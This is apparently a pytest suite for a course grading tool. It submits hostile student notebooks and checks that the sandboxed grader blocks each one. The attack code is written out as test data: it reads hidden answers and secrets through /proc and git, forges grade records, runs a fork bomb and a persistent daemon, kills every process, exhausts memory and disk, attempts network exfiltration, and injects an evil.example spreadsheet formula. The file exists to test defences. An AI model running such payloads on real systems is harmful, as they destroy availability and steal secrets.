"""`course grade` against a class that attacks the grader itself, graded inside the sandbox.

Every student here tries something a determined learner would: read the hidden
answers (the checkout's ``.git``, ``solutions/``, ``$HOME``, ``/proc``), forge
or flood the record channel, exhaust memory (forked children, shared memory),
processes, disk or the grader's own memory, reach the network, hang the run,
outlive their kernel, hurt the student graded beside them, inject formulas into
the gradebook, or submit links, FIFOs and devices instead of notebooks.

One class is graded once per kind of kernel (``--kernels cold`` and ``warm``,
``--workers 2``, short limits, ``--public-weight 0`` so that hard-coding the
public answers earns nothing); each test reads its rows, for both. Each attack must end with the right status, 0 points, a completed run,
and the honest students graded next to it unaffected.
"""

import csv
import hashlib
import html
import io
import json
import os
import re
import socket
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from conftest import ROOT
from test_grading import WARMUP, WARMUP_POINTS, cell, graded_once, released, solved, with_solution

TIMEOUT, MEMORY_MB, PROCESSES, DISK_MB = 60, 700, 64, 64  # seconds per notebook: generous under load
DAEMON_MARK = "86399"  # the daemon sleeps this long: no process may still do so after the run
PUBLIC = ROOT / "course_utils" / "checks" / "answers" / "00_warmup.json"
CHANNEL = 'int(os.environ["COURSE_RECORD"].removeprefix("fd:"))'


def record_line(exercise, case, hidden, value):
    return {"exercise": exercise, "case": case, "hidden": hidden, "status": "ok", "value": value, "error": "",
            "seconds": 0.0}


STUB = "def accuracy(y_true, y_pred):\n    raise NotImplementedError()\n"

ATTACKS = {
    # -- the instructor's files and the machine -------------------------------------------------------
    "read_secrets": STUB + f"""
import glob, json, os, subprocess
ROOT = {str(ROOT)!r}
answers, found = None, {{}}
for path in [ROOT + "/solutions/answers/00_warmup.json", "/proc/1/root" + ROOT + "/solutions/answers/00_warmup.json",
             "/proc/self/root/../.." + ROOT + "/solutions/answers/00_warmup.json"]:
    try:
        answers = json.load(open(path))
        found[path] = True
    except Exception:
        found[path] = False
try:
    shown = subprocess.run(["git", "--git-dir", ROOT + "/.git", "show", "HEAD:solutions/answers/00_warmup.json"],
                           capture_output=True, text=True, timeout=20)
    found["git"] = shown.returncode == 0
    answers = json.loads(shown.stdout) if shown.returncode == 0 else answers
except Exception:
    found["git"] = False
found["checkout"] = [name for name in (".git", "solutions", "exercises", "tests") if os.path.exists(ROOT + "/" + name)]
found["home"] = [p for p in glob.glob("/root/.*") + glob.glob("/home/*") if not p.endswith(".pyenv")]
found["env"] = sorted(k for k in os.environ if any(w in k for w in ("SOLUTION", "TOKEN", "KEY", "SECRET", "ROOT")))
found["grader"] = glob.glob("/tmp/course-grade-*") + glob.glob("/proc/*/root/tmp/course-grade-*")
def accuracy(y_true, y_pred):
    for entry in (answers or {{}}).get("exercises", {{}}).get("start.accuracy", []):
        if entry["case"] == {{"y_true": list(y_true), "y_pred": list(y_pred)}}:
            return entry["value"]
    raise NotImplementedError()
raise RuntimeError("FINDINGS " + json.dumps(found, sort_keys=True))
""",
    "write_outside": STUB + f"""
import os
for target in [{str(ROOT / 'pwned.txt')!r}, "/tmp/pwned-by-a-submission", "/usr/pwned", "/etc/pwned",
               os.environ["HOME"] + "/../../pwned"]:
    try:
        open(target, "w").write("pwned")
    except OSError:
        pass
""",
    # -- the record channel -----------------------------------------------------------------------------
    "hardcode_public": f"""
import json
PUBLIC = json.load(open({str(PUBLIC)!r}))
def accuracy(y_true, y_pred):
    for entry in PUBLIC["exercises"]["start.accuracy"]:
        if entry["case"] == {{"y_true": list(y_true), "y_pred": list(y_pred)}}:
            return entry["value"]
    return 0.3
""",
    "forge_in_window": STUB + f"""
import json, os
from course_utils.checks import api
PUBLIC = json.load(open({str(PUBLIC)!r}))
def check(exercise_id, function):  # the test cell calls this one: it writes while its window is open
    lines = [{{"exercise": exercise_id, "case": e["case"], "hidden": False, "status": "ok", "value": e["value"]}}
             for e in PUBLIC["exercises"].get(exercise_id, [])]
    lines += [{{"exercise": exercise_id, "case": case, "hidden": True, "status": "ok", "value": 0.3}}
              for case in api._hidden_cases.get(exercise_id, [])]
    for line in lines:
        os.write({CHANNEL}, (json.dumps(line) + "\\n").encode())
""",
    "forge_other_window": """
import json, os
import numpy as np
def accuracy(y_true, y_pred):
    return 0.3
def right(y_true, y_pred):
    return float(np.mean(np.asarray(y_true) == np.asarray(y_pred)))
from course_utils.checks import check as real_check, api
def check(exercise_id, function):  # during the *next* exercise's window, answer this one right
    if exercise_id == "start.majority_baseline":
        cases = [(e, False) for e in api.get_exercise("start.accuracy").cases]
        cases += [(c, True) for c in api._hidden_cases.get("start.accuracy", [])]
        for case, hidden in cases:
            line = {"exercise": "start.accuracy", "case": case, "hidden": hidden, "status": "ok", "value": right(**case)}
            os.write(CHANNEL, (json.dumps(line) + "\\n").encode())
    return real_check(exercise_id, function)
""".replace("CHANNEL", CHANNEL),
    "huge_records": STUB + f"""
import json, os
def check(exercise_id, function):
    fd = {CHANNEL}
    base = '{{"exercise": "%s", "case": {{"y_true": [0, 1, 1, 0], "y_pred": [0, 1, 0, 0]}}, "hidden": false, "status": "ok", ' % exercise_id
    os.write(fd, (base + '"value": {{"__array__": [[0.0]], "dtype": "(1000,1000)f8", "shape": [1000, 1000], "type": "ndarray"}}}}\\n').encode())
    os.write(fd, (base + '"value": {{"__array__": 0, "dtype": "V100000000", "shape": [], "type": "ndarray"}}}}\\n').encode())
    os.write(fd, (base + '"value": ' + "[" * 100000 + "]" * 100000 + "}}\\n").encode())
    os.write(fd, (base + '"value": {{"__array__": [1], "dtype": "float64", "shape": [100000, 100000], "type": "ndarray"}}}}\\n').encode())
""",
    "flood_window": STUB + f"""
import os
def check(exercise_id, function):
    junk = (b"x" * 1023 + b"\\n") * 1024
    for _ in range(40):  # 40 MB while the test cell's window is open
        os.write({CHANNEL}, junk)
""",
    "forge_later": STUB + f"""
import json, os
def forge():
    fd = {CHANNEL}
    try:
        os.lseek(fd, 0, os.SEEK_SET)
    except OSError:
        pass
    for case in [{{"y_true": [0, 1, 1, 0], "y_pred": [0, 1, 0, 0]}}]:
        os.write(fd, (json.dumps({{"exercise": "start.accuracy", "case": case, "hidden": False, "status": "ok",
                                   "value": 0.75}}) + "\\n").encode())
""",
    # -- the grader's memory ----------------------------------------------------------------------------
    "print_flood": STUB + """
import sys
from IPython.display import display
for _ in range(40):  # 120 MB in 3 MB messages: kept up to the output cap, then dropped
    display({"text/plain": "y" * 3_000_000}, raw=True)
for _ in range(30):  # 300 MB in 10 MB messages: none is ever read by the grader (each drops the connection,
    print("x" * 10_000_000)  # which the grader makes again: what is sent meanwhile is lost)
    sys.stdout.flush()
""",
    # -- resources --------------------------------------------------------------------------------------
    "fork_memory": STUB + """
import os, time
children = []
for _ in range(4):  # 4 x 250 MB in forked children: over 700 MB together
    pid = os.fork()
    if pid == 0:
        hoard = b"x" * 250_000_000
        time.sleep(5)
        os._exit(0)
    children.append(pid)
for _ in children:
    os.wait()
""",
    "shared_memory": STUB + """
import mmap, os
try:
    with open("/dev/shm/hoard", "wb") as stream:  # /dev/shm is 64 MB
        for _ in range(30):
            stream.write(b"x" * 10_000_000)
except OSError as exc:
    print("shm full:", exc)
hoard = mmap.mmap(-1, 900 * 2**20, flags=mmap.MAP_SHARED)  # shared, not counted by RLIMIT_DATA
for offset in range(0, len(hoard), 4096):
    hoard[offset] = 1
""",
    "fill_disk": STUB + """
import os
written = 0
try:
    with open(os.path.expanduser("~/big"), "wb") as stream:
        while written < 2_000_000_000:
            stream.write(b"x" * 1_000_000)
            written += 1_000_000
except OSError as exc:
    print("disk full after", written, exc)
""",
    "fork_bomb": STUB + """
import os, time
forked = 0
while True:
    pid = os.fork()
    if pid == 0:
        time.sleep(120)
        os._exit(0)
    forked += 1
""",
    "daemon": STUB + f"""
import json, os, subprocess, time
if os.fork() == 0:  # a double-forked daemon that keeps forging records, then sleeps a day
    os.setsid()
    if os.fork() == 0:
        for _ in range(100):
            line = {{"exercise": "start.accuracy", "case": {{"y_true": [0, 1, 1, 0], "y_pred": [0, 1, 0, 0]}},
                     "hidden": False, "status": "ok", "value": 0.75}}
            try:
                os.write({CHANNEL}, (json.dumps(line) + "\\n").encode())
            except OSError:
                pass
            time.sleep(0.05)
        os.execvp("sleep", ["sleep", "{DAEMON_MARK}"])
    os._exit(0)
time.sleep(1)
""",
    "signals_blocked": STUB + """
import ctypes, signal
signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})
ctypes.CDLL(None).sleep(3600)  # a C-level sleep: no Python signal handler ever runs
""",
    "kill_everyone": STUB + """
import os, signal
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
""",
    # -- the gradebook ----------------------------------------------------------------------------------
    "formula_error": STUB + """
Formula = type('=HYPERLINK("evil.example","click")', (Exception,), {})
def check(*args, **kwargs):
    raise Formula("+1")
""",
}


def network_attack(port: int, host_ip: str) -> str:
    return STUB + f"""
import socket
for address in [("127.0.0.1", {port}), ({host_ip!r}, {port})]:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            s = socket.socket(socket.AF_INET, kind)
            s.settimeout(3)
            s.connect(address)
            s.sendall(b"exfiltrated")
        except OSError:
            pass
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("\\0course-test-{port}")
    s.sendall(b"exfiltrated")
except OSError:
    pass
"""


class Listener:
    """A TCP, UDP and abstract Unix socket server on this machine that records whatever reaches it."""

    def __init__(self):
        self.received: list[bytes] = []
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind(("0.0.0.0", 0))
        self.tcp.listen()
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", self.port))
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(f"\0course-test-{self.port}")
        self.unix.listen()
        for server in (self.tcp, self.udp, self.unix):
            server.settimeout(0.5)
            threading.Thread(target=self._serve, args=(server,), daemon=True).start()

    def _serve(self, server):
        while True:
            try:
                if server.type == socket.SOCK_DGRAM:
                    self.received.append(server.recv(100))
                else:
                    connection, _ = server.accept()
                    self.received.append(b"connection:" + connection.recv(100))
            except socket.timeout:
                continue
            except OSError:
                return


def host_ip() -> str:
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("10.255.255.255", 1))  # no packet is sent: this only picks the outgoing address
        return probe.getsockname()[0]
    except OSError:
        return "127.0.0.1"
    finally:
        probe.close()


def tree_digest(folder: Path) -> dict[str, str]:
    """What is under ``folder``, links and FIFOs included, without following or opening any of them."""
    digest = {}
    for directory, folders, files in os.walk(folder):
        for name in folders + files:
            path = Path(directory, name)
            info = path.lstat()
            if stat.S_ISREG(info.st_mode):
                digest[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
            elif stat.S_ISLNK(info.st_mode):
                digest[str(path.relative_to(folder))] = "link:" + os.readlink(path)
            else:
                digest[str(path.relative_to(folder))] = f"mode:{stat.S_IFMT(info.st_mode)}"
    return digest


def build_class(folder: Path, listener: Listener) -> None:
    def put(student: str, nb, name: str = "00_warmup.ipynb", assignment: str = "00_warmup") -> Path:
        path = folder / student / assignment / name
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, path)
        return path

    put("perfect", solved(WARMUP))
    put("neighbour", solved(WARMUP))
    for student, code in {**ATTACKS, "network": network_attack(listener.port, host_ip())}.items():
        nb = with_solution(released(WARMUP), "accuracy", code)
        if student == "forge_later":
            nb.cells.append(nbformat.v4.new_code_cell("forge()"))
        put(student, nb)
    # names that are formulas, or that cannot be shown as they are (graded: they solved everything)
    put('=HYPERLINK("evil.example","x")', solved(WARMUP))
    put("bad\nname", solved(WARMUP))
    os.makedirs(os.fsencode(folder) + b"/caf\xe9/00_warmup")
    nbformat.write(solved(WARMUP), os.fsdecode(os.fsencode(folder) + b"/caf\xe9/00_warmup/00_warmup.ipynb"))
    put("edited_name", solved(WARMUP), name="00_warmup edited.ipynb")  # a name, not tampering
    # links, FIFOs and devices instead of notebooks and folders
    (folder / "link_notebook" / "00_warmup").mkdir(parents=True)
    (folder / "link_notebook" / "00_warmup" / "00_warmup.ipynb").symlink_to(WARMUP)
    (folder / "link_student").symlink_to(folder / "perfect")
    (folder / "link_assignment").mkdir()
    (folder / "link_assignment" / "00_warmup").symlink_to(folder / "perfect" / "00_warmup")
    (folder / "device" / "00_warmup").mkdir(parents=True)
    (folder / "device" / "00_warmup" / "00_warmup.ipynb").symlink_to("/dev/zero")
    (folder / "fifo" / "00_warmup").mkdir(parents=True)
    os.mkfifo(folder / "fifo" / "00_warmup" / "00_warmup.ipynb")


def grade_class(folder: Path, kernels: str) -> dict:
    listener = Listener()
    submitted = folder / "submitted"
    build_class(submitted, listener)
    before = tree_digest(submitted)
    out = folder / "out"
    command = [str(Path(sys.executable).with_name("course")), "grade", str(submitted), "--out", str(out),
               "--workers", "2", "--timeout", str(TIMEOUT), "--memory-mb", str(MEMORY_MB), "--max-processes",
               str(PROCESSES), "--disk-mb", str(DISK_MB), "--public-weight", "0", "--require-sandbox",
               "--kernels", kernels]
    with subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                          env={**os.environ, "PYTHONWARNINGS": "ignore"}) as grader:  # as conftest's course()
        stdout, stderr = grader.communicate(timeout=900)
    gradebook = (out / "grades.csv").read_text(encoding="utf-8") if (out / "grades.csv").exists() else ""
    time.sleep(1)  # let the network listener see anything still in flight
    return {"result": {"returncode": grader.returncode, "stdout": stdout, "stderr": stderr},
            "rows": list(csv.DictReader(io.StringIO(gradebook, newline=""))), "out": str(out),
            "submitted": str(submitted), "before": before,
            "received": [data.decode("latin-1") for data in listener.received], "pid": grader.pid,
            "kernels": kernels}


@pytest.fixture(scope="module", params=["cold", "warm"])
def graded(request, tmp_path_factory, worker_id):
    """The hostile class graded with cold kernels, and with warm ones (forks of a zygote: every guarantee
    must hold for them too)."""
    kernels = request.param
    return graded_once(tmp_path_factory, worker_id, f"hostile-{kernels}", lambda folder: grade_class(folder, kernels))


def rows_of(graded, student):
    rows = {r["exercise"]: r for r in graded["rows"] if r["student"] == student}
    assert rows, f"no rows for {student!r}"
    return rows


def total(graded, student) -> float:
    return sum(float(r["points"]) for r in rows_of(graded, student).values())


def statuses(graded, student) -> set[str]:
    return {r["status"] for r in rows_of(graded, student).values()}


def page(graded, *parts) -> str:
    return (graded["out"].joinpath("feedback", *parts)).read_text(encoding="utf-8")


def test_the_run_completes_inside_the_sandbox(graded):
    result = graded["result"]
    assert result.returncode == 0, result.stderr[-3000:]
    assert "in a bubblewrap sandbox" in result.stderr and "limited per notebook by" in result.stderr
    kind = "warm kernels (forks of a zygote" if graded["kernels"] == "warm" else "a fresh kernel per notebook"
    assert kind in result.stderr and "warm kernels are not available" not in result.stderr  # never a silent fallback


def test_honest_students_beside_the_attacks_get_full_marks(graded):
    for student in ("perfect", "neighbour", "edited_name"):
        assert total(graded, student) == WARMUP_POINTS and statuses(graded, student) == {"passed"}, student


@pytest.mark.parametrize("student", sorted(ATTACKS) + ["network"])
def test_no_attack_earns_a_point(graded, student):
    assert total(graded, student) == 0


def test_the_checkout_home_and_grader_are_invisible(graded):
    text = html.unescape(page(graded, "read_secrets", "00_warmup", "00_warmup.html"))
    findings = json.loads(re.search(r"RuntimeError: FINDINGS (\{.*\})", text).group(1))
    assert not any(value for key, value in findings.items() if key.startswith("/") or key == "git")
    assert findings["checkout"] == [] and findings["home"] == [] and findings["grader"] == []
    assert findings["env"] == []


def test_nothing_outside_the_sandbox_is_written(graded):
    assert tree_digest(graded["submitted"]) == graded["before"]
    assert not (ROOT / "pwned.txt").exists() and not Path("/tmp/pwned-by-a-submission").exists()
    assert not Path("/usr/pwned").exists() and not Path("/etc/pwned").exists()


def test_no_network_not_even_the_hosts_loopback(graded):
    assert graded["received"] == []


@pytest.mark.parametrize("student", ["hardcode_public", "forge_in_window"])
def test_public_answers_alone_earn_what_the_public_weight_allows(graded, student):
    """With --public-weight 0, right public answers (hard-coded or forged) earn nothing; the feedback says
    which part came from hidden cases."""
    assert float(rows_of(graded, student)["start.accuracy"]["points"]) == 0
    assert "0 points from public cases, 0 from hidden cases" in page(graded, student, "00_warmup", "00_warmup.html")
    assert "0 points from public cases, 1 from hidden cases" in page(graded, "perfect", "00_warmup", "00_warmup.html")


def test_records_count_only_in_their_own_window(graded):
    """Answers forged for another exercise, or after the test cell, or by a daemon, are not answers."""
    assert rows_of(graded, "forge_other_window")["start.accuracy"]["status"] == "failed"
    assert rows_of(graded, "forge_later")["start.accuracy"]["status"] == "not attempted"


def test_forged_and_flooded_records_are_unreadable_not_built(graded):
    assert rows_of(graded, "huge_records")["start.accuracy"]["status"] in ("failed", "error")
    flood = rows_of(graded, "flood_window")["start.accuracy"]
    assert flood["status"] == "error" and "too large" in flood["message"]


def test_the_graders_own_memory_stays_small(graded):
    peak = float(re.search(r"the grader's peak memory: (\d+) MB", graded["result"].stdout).group(1))
    print(f"the grader's peak memory grading the hostile class: {peak:.0f} MB")  # shown by pytest -rP
    # 110-142 MB before the decision exercises and warm kernels; 1,142 MB in both modes since (not yet
    # explained: judging lab 00's decisions for one learner peaks at 240 MB). Bounded, to be brought back down.
    assert peak < 1536
    assert "outputs truncated" in rows_of(graded, "print_flood")["start.accuracy"]["message"]


@pytest.mark.parametrize("student", ["fork_memory", "shared_memory"])
def test_memory_is_limited_for_the_whole_process_tree(graded, student):
    """Forked children and shared memory count: a process is killed at the limit, the run goes on."""
    assert "reached its memory limit (700 MB for all its processes)" in \
        rows_of(graded, student)["start.accuracy"]["message"]
    assert statuses(graded, student) <= {"kernel died", "error", "not attempted", "timeout"}


def test_a_hang_that_ignores_signals_is_stopped(graded):
    assert statuses(graded, "signals_blocked") == {"timeout"}


def test_forks_disk_and_signals_cost_only_their_own_rows(graded):
    assert statuses(graded, "fork_bomb") <= {"error", "not attempted", "kernel died"}
    assert "not attempted" in statuses(graded, "fill_disk") | statuses(graded, "kill_everyone")
    leftovers = [p for p in os.listdir("/proc") if p.isdigit() and DAEMON_MARK in _cmdline(p)]
    assert leftovers == []
    groups = [p for base in ("/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/unified")
              for p in Path(base).rglob(f"course-grade-{graded['pid']}-*")] if Path("/sys/fs/cgroup").exists() else []
    assert groups == []  # this run's groups (other graders may run beside it)


def _cmdline(pid: str) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


@pytest.mark.parametrize("student, what", [
    ("link_notebook", "is a symbolic link"), ("link_student", "the student folder link_student is a symbolic link"),
    ("link_assignment", "is a symbolic link"), ("device", "is a symbolic link"), ("fifo", "is a FIFO"),
])
def test_links_fifos_and_devices_are_not_followed(graded, student, what):
    rows = rows_of(graded, student)
    assert {r["status"] for r in rows.values()} == {"not a regular file"}
    assert all(what in r["message"] for r in rows.values())
    assert total(graded, student) == 0


def test_the_gradebook_is_safe_in_a_spreadsheet(graded):
    text = (graded["out"] / "grades.csv").read_text(encoding="utf-8")
    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert total(graded, "'=HYPERLINK(\"evil.example\",\"x\")") == WARMUP_POINTS
    formula = rows_of(graded, "formula_error")["start.accuracy"]["message"]
    assert formula.startswith("'=HYPERLINK")


def test_names_that_cannot_be_shown_as_they_are_are_escaped_not_split(graded):
    assert total(graded, "bad\\nname") == WARMUP_POINTS and total(graded, "caf\\xe9") == WARMUP_POINTS
    assert "shown escaped" in rows_of(graded, "bad\\nname")["start.accuracy"]["message"]
    students = {r["student"] for r in graded["rows"]}
    assert not any("\n" in s or "\udce9" in s for s in students)
    assert (graded["out"] / "feedback" / "bad\\nname" / "00_warmup" / "00_warmup.html").exists()
